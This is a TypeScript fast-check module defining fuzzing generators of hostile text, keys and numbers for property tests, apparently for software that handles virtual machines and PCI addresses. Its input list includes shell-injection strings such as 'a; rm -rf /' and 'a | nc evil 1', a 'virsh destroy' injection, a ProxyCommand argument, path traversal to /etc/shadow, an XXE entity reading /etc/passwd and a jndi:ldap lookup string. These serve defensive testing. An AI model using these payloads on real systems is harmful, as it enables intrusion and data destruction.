import * as fc from "fast-check";

/** Texts that some part of a machine would take for more than text. */
const texts = [
  "",
  " ",
  "$(touch /tmp/pwned)",
  "`id`",
  "a; rm -rf /",
  "a && reboot",
  "a | nc evil 1",
  "'\"; virsh destroy vm; '",
  "-oProxyCommand=touch /tmp/pwned",
  "--help",
  "../../../../etc/shadow",
  "/etc/../../x\0.json",
  "a\0b",
  "a\nb",
  "\r\nHost: evil",
  "\u001b[2J\u001b]0;title\u0007",
  "</name><qemu:commandline/>",
  "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
  "<![CDATA[ ]]>",
  "&amp;&lt;",
  "%s%n%x",
  "$\u007bjndi:ldap://evil/x}",
  "{{7*7}}",
  "0000:17:00.0\n0000:18:00.0",
  "0000:1G:00.0",
  "ＡＢＣ",
  "ünïcödé",
  "😀😀",
  "\u202etxt.exe",
  "\ud800",
  "x\udfffy",
  "\ufeffa",
  "true",
  "null",
  "1e9999",
  "0x10",
  "9".repeat(400),
];

/** A message holds UTF-8, which has no lone surrogates: what arrives is the replacement character. */
const asSent = (text: string): string => Buffer.from(text).toString();

/** A text of a hostile kind. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 60, arbitrary: fc.constantFrom(...texts) },
    { weight: 20, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 15, arbitrary: fc.constantFrom("a", "1,", " ", "-", "/a").map((unit) => unit.repeat(3000)) },
  )
  .map(asSent);

/** A key that no program means. */
export const hostileKey: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 20, arbitrary: fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty") },
    { weight: 30, arbitrary: fc.constantFrom(...texts) },
    { weight: 10, arbitrary: fc.constantFrom("[0]", "a.b", 'q"', "\\", '\\"', "a]", "*", "0", "-1") },
    { weight: 10, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
    { weight: 2, arbitrary: fc.constantFrom(100, 5000).map((length) => "k".repeat(length)) },
  )
  .map(asSent);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, 0.5, -0.5, 1e-300, 1e308, -1e308, 2 ** 53, -(2 ** 53), 2 ** 31, 2 ** 32, 1e21, 0, 99_999),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Something of any kind that is not null: null counts as absent. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  hostileText.filter((text) => text.length < 100),
  hostileNumber,
  fc.boolean(),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.constantFrom("a", "__proto__", "b c"), fc.integer(), { maxKeys: 2 }),
);

/** Objects within objects, or lists within lists. */
export function nested(levels: number, inList: boolean): unknown {
  let value: unknown = "x";
  for (let level = 0; level < levels; level++) value = inList ? [value] : { a: value };
  return value;
}
